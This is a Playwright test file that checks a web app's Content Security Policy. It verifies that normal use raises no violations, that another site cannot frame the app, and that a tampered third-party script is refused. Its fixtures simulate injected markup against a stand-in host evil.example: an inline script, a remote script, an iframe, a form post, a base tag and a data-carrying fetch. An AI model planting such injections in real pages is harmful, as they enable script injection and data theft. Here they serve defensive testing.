import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext } from '@playwright/test'
import { expect, startDemoStack, test } from '../support/test.ts'
import { createDocument, signIn, signOut } from '../support/visit.ts'

/** What the browser refused, as directives; filled by the page itself, on every page of the context. */
async function violationsOf(context: BrowserContext): Promise<string[]> {
  const violations: string[] = []
  await context.exposeBinding('reportViolation', (_source, directive: string) => violations.push(directive))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { reportViolation(directive: string): void }).reportViolation(effectiveDirective),
    )
  })
  return violations
}

test('the product works under its policy, and the browser has nothing to report', async ({
  page,
  context,
  people,
  quiet,
}) => {
  const violations = await violationsOf(context)
  const reports: string[] = []
  context.on(
    'request',
    (request) => request.url().endsWith('/api/csp-reports') && reports.push(request.url()),
  )
  await signIn(page, people.ada)
  await createDocument(page, 'Written under a policy')
  await page.getByRole('button', { name: 'Comment', exact: true }).click()
  await page.getByLabel('Your comment').fill('Nothing to report')
  await page.getByRole('button', { name: 'Add comment' }).click()
  await page.getByRole('button', { name: /^Comments/ }).click()
  await expect(page.getByText('Nothing to report')).toBeVisible()
  await page.getByRole('button', { name: 'Close' }).click()
  await signOut(page, quiet)
  expect({ violations, reports }).toEqual({ violations: [], reports: [] })
})

/** What somebody who got markup into the page would try, and the directive that stops it. */
const attempts: Record<string, [attempt: () => void, directive: string]> = {
  'an inline script': [
    () => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "taken"'
      document.body.append(script)
    },
    'script-src-elem',
  ],
  'an inline handler': [
    () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'document.title = "taken"')
      document.body.append(button)
      button.click()
    },
    'script-src-attr',
  ],
  'a script from elsewhere': [
    () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    },
    'script-src-elem',
  ],
  'a frame': [
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
    'frame-src',
  ],
  'a form to elsewhere': [
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
    'form-action',
  ],
  'a base for all links': [
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
    'base-uri',
  ],
  'a request that carries data away': [
    () => void fetch('https://evil.example/?x').catch(() => {}),
    'connect-src',
  ],
}

test('the policy refuses whatever markup in the page would try', async ({ page, context, quiet }) => {
  quiet.expect(/Content Security Policy|failed request: https:\/\/evil\.example/)
  const violations = await violationsOf(context)
  for (const [name, [attempt, directive]] of Object.entries(attempts)) {
    await test.step(name, async () => {
      await page.goto('/')
      await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()
      violations.length = 0
      await page.evaluate(attempt)
      await expect.poll(() => violations, name).toEqual([directive])
      // Not `toHaveTitle`: it would wait for the navigation that the form did not get.
      expect(await page.evaluate(() => document.title)).toContain('Folio')
    })
  }
})

test('a page of another site cannot frame the product', async ({ page, stack, quiet }) => {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(
      `<!doctype html><link rel="icon" href="data:,"><iframe src="${stack.url}/" title="framed"></iframe>`,
    )
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    quiet.expect(/frame-ancestors/)
    quiet.expect(/failed request: https:\/\/localhost.* net::ERR_BLOCKED_BY_RESPONSE/)
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  } finally {
    server.closeAllConnections()
    server.close()
  }
})

test('a Velt script that is not what the package knows is refused, the page says so at once and keeps working', async ({
  run,
  newContext,
  people,
  quiet,
}) => {
  // The sandbox's script at the address of Velt's own: to the browser, a script that somebody changed.
  const stack = await startDemoStack(run, { VELT_SCRIPT: 'velt' })
  try {
    quiet.expect(/Failed to find a valid digest in the 'integrity' attribute/)
    const page = await (await newContext()).newPage()
    await page.goto(`${stack.url}/`)
    await page.getByLabel('Email').fill(people.ada.email)
    await page.getByLabel('Password').fill(people.ada.password)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await createDocument(page, 'Kept without Velt')
    await expect(page.getByText('Comments and presence have not loaded.')).toBeVisible({ timeout: 5_000 })
    await page.getByLabel('Text').fill('Still saved')
    await expect(page.getByText('Saved', { exact: true })).toBeVisible()
    expect(await page.evaluate(() => 'Velt' in window)).toBe(false)
  } finally {
    await stack.stop()
  }
})
